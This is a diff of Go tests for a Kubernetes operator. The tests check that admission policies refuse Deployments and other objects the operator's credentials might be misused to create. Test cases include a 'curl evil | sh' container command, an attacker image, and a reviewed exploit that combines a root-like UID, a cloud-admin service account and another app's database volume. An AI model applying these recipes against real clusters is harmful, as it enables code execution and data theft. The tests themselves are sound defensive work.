@@ -11,6 +11,7 @@ import (
 	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
 	networkingv1 "k8s.io/api/networking/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -29,16 +30,24 @@ func grantClusterRole(t *testing.T) {
 	}
 }
 
+// controlledBy is a controller reference to a cantus.dev object of kind and name.
+func controlledBy(kind, name string) []metav1.OwnerReference {
+	return []metav1.OwnerReference{{APIVersion: "cantus.dev/v1alpha1", Kind: kind, Name: name,
+		UID: "00000000-0000-0000-0000-000000000001", Controller: ptr.To(true)}}
+}
+
 // restrictedDeployment is shaped like the adapter Deployments the operator renders
-// (internal/workload): restricted profile, no token, the adapter image running /adapter.
+// (internal/workload): restricted profile, no token, the adapter image running /adapter,
+// controlled by the SkillServer it is named after.
 func restrictedDeployment(namespace, name string) *appsv1.Deployment {
-	labels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
+	selector := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
+	labels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator"}
 	return &appsv1.Deployment{
 		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{
 			"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator",
-		}},
+		}, OwnerReferences: controlledBy("SkillServer", name)},
 		Spec: appsv1.DeploymentSpec{
-			Selector: &metav1.LabelSelector{MatchLabels: labels},
+			Selector: &metav1.LabelSelector{MatchLabels: selector},
 			Template: corev1.PodTemplateSpec{
 				ObjectMeta: metav1.ObjectMeta{Labels: labels},
 				Spec: corev1.PodSpec{
@@ -46,6 +55,8 @@ func restrictedDeployment(namespace, name string) *appsv1.Deployment {
 					SecurityContext: &corev1.PodSecurityContext{
 						RunAsNonRoot:   ptr.To(true),
 						RunAsUser:      ptr.To[int64](65532),
+						RunAsGroup:     ptr.To[int64](65532),
+						FSGroup:        ptr.To[int64](65532),
 						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
 					},
 					Containers: []corev1.Container{{
@@ -71,8 +82,9 @@ func restrictedDeployment(namespace, name string) *appsv1.Deployment {
 }
 
 // bridged turns d into a stdio bridge's Deployment: the install container of the adapter
-// image, the import's image running the copied-in adapter.
+// image, the import's image running the copied-in adapter, controlled by the import.
 func bridged(d *appsv1.Deployment) {
+	d.OwnerReferences = controlledBy("RemoteToolImport", strings.TrimSuffix(d.Name, "-bridge"))
 	pod := &d.Spec.Template.Spec
 	d.Spec.Template.Labels["app.kubernetes.io/component"] = "stdio-bridge"
 	install := pod.Containers[0]
@@ -183,6 +195,49 @@ func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
 		{name: "bridge not running the adapter", bridge: true, mutate: func(d *appsv1.Deployment) {
 			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
 		}, want: "bridge (example.test/mcp/server:v1)"},
+		// Issue 39, R11: what the policy left open.
+		{name: "another user", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsUser = ptr.To[int64](999) }, want: "user and group 65532"},
+		{name: "another group", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsGroup = ptr.To[int64](0) }, want: "user and group 65532"},
+		{name: "container as another user", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.RunAsUser = ptr.To[int64](999) }, want: "restricted profile"},
+		{name: "container in another group", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.RunAsGroup = ptr.To[int64](0) }, want: "restricted profile"},
+		{name: "another fsGroup", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.FSGroup = ptr.To[int64](999) }, want: "user and group 65532"},
+		{name: "supplemental groups", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.SupplementalGroups = []int64{0} }, want: "no supplemental groups"},
+		{name: "SELinux options", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
+		}, want: "SELinux"},
+		{name: "container AppArmor unconfined", mutate: func(d *appsv1.Deployment) {
+			container(d).SecurityContext.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
+		}, want: "restricted profile"},
+		{name: "a service account not listed", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "cloud-admin" }, want: "tenant-vap/cloud-admin is not in serviceAccounts"},
+		{name: "another app's claim", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "data",
+				VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-postgres-0"}}})
+		}, want: "volumes the operator does not mount"},
+		{name: "unbounded memory emptyDir", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "ram",
+				VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: corev1.StorageMediumMemory}}})
+		}, want: "volumes the operator does not mount"},
+		{name: "node selector", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
+		}, want: "never places"},
+		{name: "tolerations", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
+		}, want: "never places"},
+		{name: "affinity", mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
+				NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchFields: []corev1.NodeSelectorRequirement{{Key: "metadata.name", Operator: corev1.NodeSelectorOpIn, Values: []string{"n1"}}}}},
+			}}}
+		}, want: "never places"},
+		{name: "node name", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.NodeName = "n1" }, want: "never places"},
+		{name: "pods without the operator's label", mutate: func(d *appsv1.Deployment) {
+			delete(d.Spec.Template.Labels, "app.kubernetes.io/managed-by")
+		}, want: "pod templates carry"},
+		{name: "bridge of an image not in bridgeImages", bridge: true, mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Containers[0].Image = "attacker.test/x:1"
+		}, want: "bridge (attacker.test/x:1)"},
+		{name: "bridge of an image only sharing a prefix", bridge: true, mutate: func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Containers[0].Image = "example.test/mcp-evil/server:v1"
+		}, want: "bridge (example.test/mcp-evil/server:v1)"},
 	}
 	// The restricted-workloads binding selects the operator's label; dropping the label
 	// does not take a Deployment out of its reach, own-objects refuses it first.
@@ -197,6 +252,7 @@ func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			d := restrictedDeployment("tenant-vap", "forbidden")
 			if tc.bridge {
+				d = restrictedDeployment("tenant-vap", "forbidden-bridge")
 				bridged(d)
 			}
 			tc.mutate(d)
@@ -276,12 +332,12 @@ func TestOperatorCannotRewriteItsAdmissionParameters(t *testing.T) {
 			_ = admin.Update(ctx, labelled)
 		}
 	})
-	tryToRewrite("cantus-operator-admission-params")
+	tryToRewrite("cantus-operator-own-objects", "cantus-operator-admission-params")
 
-	other := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "anything-else",
+	state := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "cantus-operator-revocations",
 		Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}}}
-	if err := operator.Create(ctx, other, client.DryRunAll); err != nil {
-		t.Fatalf("the operator may not write another ConfigMap: %v", err)
+	if err := operator.Create(ctx, state, client.DryRunAll); err != nil {
+		t.Fatalf("the operator may not write its own state: %v", err)
 	}
 }
 
@@ -343,12 +399,14 @@ func TestOperatorWritesOnlyItsOwnObjects(t *testing.T) {
 		"NodePort":    {Type: corev1.ServiceTypeNodePort, Ports: []corev1.ServicePort{{Port: 80}}},
 		"externalIPs": {ExternalIPs: []string{"203.0.113.7"}, Ports: []corev1.ServicePort{{Port: 80}}},
 	} {
-		svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "open", Labels: own}, Spec: spec}
+		svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "open", Labels: own,
+			OwnerReferences: controlledBy("SkillServer", "open")}, Spec: spec}
 		refused("a "+name+" Service", operator.Create(ctx, svc, client.DryRunAll), "ClusterIP")
 	}
 
 	// Its own objects stay its to write and delete.
-	labelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new", Labels: own}}
+	labelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new-adapter", Labels: own,
+		OwnerReferences: controlledBy("SkillServer", "new")}}
 	if err := operator.Create(ctx, labelled, client.DryRunAll); err != nil {
 		t.Errorf("create a labelled ConfigMap: %v", err)
 	}
@@ -431,5 +489,125 @@ func waitForImagesAllowed(t *testing.T, namespace string) {
 			t.Fatalf("the operator's Deployment is still refused 30s after the parameters were restored: %v", err)
 		}
 		time.Sleep(200 * time.Millisecond)
+	}
+}
+
+// The review's exploit (issue 39, R11): with the operator's credentials, a Deployment in
+// another application's namespace, labelled as the operator's and shaped like a stdio
+// bridge, running an image of the attacker's as UID 999 with that application's
+// PersistentVolumeClaim mounted and a cloud identity's service account. Every part of it
+// is refused on its own.
+func TestOperatorCredentialsCannotRunTheReviewsExploit(t *testing.T) {
+	ctx := context.Background()
+	grantClusterRole(t)
+	createNamespace(t, "prod-db")
+	waitForPolicy(t, "prod-db")
+
+	// exploit is the review's Deployment with the parts named in parts.
+	exploit := func(parts ...string) *appsv1.Deployment {
+		d := restrictedDeployment("prod-db", "x-bridge")
+		bridged(d)
+		pod := &d.Spec.Template.Spec
+		for _, part := range parts {
+			switch part {
+			case "image":
+				pod.Containers[0].Image = "attacker.test/x:1"
+			case "uid":
+				pod.SecurityContext.RunAsUser = ptr.To[int64](999)
+			case "account":
+				pod.ServiceAccountName = "irsa-admin"
+			case "claim":
+				pod.Volumes = append(pod.Volumes, corev1.Volume{Name: "data", VolumeSource: corev1.VolumeSource{
+					PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-postgres-0"}}})
+				pod.Containers[0].VolumeMounts = append(pod.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "data", MountPath: "/data"})
+			}
+		}
+		return d
+	}
+	all := []string{"image", "uid", "account", "claim"}
+	if err := operator.Create(ctx, exploit(all...), client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
+		t.Fatalf("the operator created the review's exploit Deployment: %v", err)
+	}
+	for _, part := range all {
+		if err := operator.Create(ctx, exploit(part), client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
+			t.Errorf("the operator created a bridge Deployment with only the %s of the exploit: %v", part, err)
+		}
+	}
+	if err := operator.Create(ctx, exploit(), client.DryRunAll); err != nil {
+		t.Fatalf("the bridge without the exploit's parts is refused, so the parts prove nothing: %v", err)
+	}
+}
+
+// The operator creates only what its owners name (issue 39, R11): a ConfigMap of a name no
+// SkillServer gives (a missing one some component reads, coredns-custom), an allow-all
+// NetworkPolicy, a Service or claim of another name than its controller's are refused,
+// labelled as its own or not.
+func TestOperatorCreatesOnlyTheNamesItsOwnersGive(t *testing.T) {
+	ctx := context.Background()
+	grantClusterRole(t)
+	createNamespace(t, "names")
+	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}
+	meta := func(namespace, name string, owner []metav1.OwnerReference) metav1.ObjectMeta {
+		return metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: own, OwnerReferences: owner}
+	}
+	allowAll := networkingv1.NetworkPolicySpec{
+		PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
+		Ingress:     []networkingv1.NetworkPolicyIngressRule{{}},
+	}
+	ownPods := metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/instance": "srv", "app.kubernetes.io/managed-by": "cantus-operator"}}
+	port := []corev1.ServicePort{{Port: 8765}}
+
+	refused := []struct {
+		name string
+		obj  client.Object
+		want string
+	}{
+		{"a ConfigMap no SkillServer names", &corev1.ConfigMap{ObjectMeta: meta("kube-system", "coredns-custom", nil)}, "kube-system/coredns-custom is not one"},
+		{"a ConfigMap named after no controller", &corev1.ConfigMap{ObjectMeta: meta("kube-system", "coredns-custom", controlledBy("SkillServer", "coredns"))}, "is not one"},
+		{"a content ConfigMap of no number", &corev1.ConfigMap{ObjectMeta: meta("names", "srv-content-x", controlledBy("SkillServer", "srv"))}, "is not one"},
+		{"a ConfigMap controlled by something else", &corev1.ConfigMap{ObjectMeta: meta("names", "srv-adapter",
+			[]metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: "srv", UID: "u", Controller: ptr.To(true)}})}, "is not one"},
+		{"an allow-all NetworkPolicy", &networkingv1.NetworkPolicy{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: allowAll}, "select only pods labelled"},
+		{"a NetworkPolicy of another name", &networkingv1.NetworkPolicy{ObjectMeta: meta("names", "allow-all", controlledBy("SkillServer", "srv")),
+			Spec: networkingv1.NetworkPolicySpec{PodSelector: ownPods}}, "names/allow-all is not one"},
+		{"a Service of another name", &corev1.Service{ObjectMeta: meta("names", "billing", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}}, "names/billing is not one"},
+		{"a Service of no controller", &corev1.Service{ObjectMeta: meta("names", "srv", nil), Spec: corev1.ServiceSpec{Ports: port}}, "names/srv is not one"},
+		{"a bridge Service of a SkillServer", &corev1.Service{ObjectMeta: meta("names", "srv-bridge", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}}, "is not one"},
+		{"another app's claim", &corev1.PersistentVolumeClaim{ObjectMeta: meta("names", "data-postgres-0", controlledBy("SkillServer", "data-postgres-0")),
+			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
+				Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}}, "names/data-postgres-0 is not one"},
+	}
+	deadline := time.Now().Add(30 * time.Second)
+	for _, tc := range refused {
+		for {
+			err := operator.Create(ctx, tc.obj, client.DryRunAll)
+			if err != nil && strings.Contains(err.Error(), "cantus-operator-own-objects") {
+				if !strings.Contains(err.Error(), tc.want) {
+					t.Errorf("%s: refused for another reason than %q: %v", tc.name, tc.want, err)
+				}
+				break
+			}
+			if time.Now().After(deadline) {
+				t.Errorf("%s: the operator created it: %v", tc.name, err)
+				break
+			}
+			time.Sleep(200 * time.Millisecond) // the policy may still be loading
+		}
+	}
+
+	allowed := []client.Object{
+		&corev1.ConfigMap{ObjectMeta: meta("names", "srv-adapter", controlledBy("SkillServer", "srv"))},
+		&corev1.ConfigMap{ObjectMeta: meta("names", "srv-content-12", controlledBy("SkillServer", "srv"))},
+		&networkingv1.NetworkPolicy{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: networkingv1.NetworkPolicySpec{PodSelector: ownPods}},
+		&corev1.Service{ObjectMeta: meta("names", "srv", controlledBy("SkillServer", "srv")), Spec: corev1.ServiceSpec{Ports: port}},
+		&corev1.Service{ObjectMeta: meta("names", "imp-bridge", controlledBy("RemoteToolImport", "imp")), Spec: corev1.ServiceSpec{Ports: port}},
+		&corev1.PersistentVolumeClaim{ObjectMeta: meta("names", "srv-memory", controlledBy("SkillServer", "srv")),
+			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
+				Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}},
+	}
+	for _, obj := range allowed {
+		if err := operator.Create(ctx, obj, client.DryRunAll); err != nil {
+			t.Errorf("the operator's own %T %s is refused: %v", obj, obj.GetName(), err)
+		}
 	}
 }
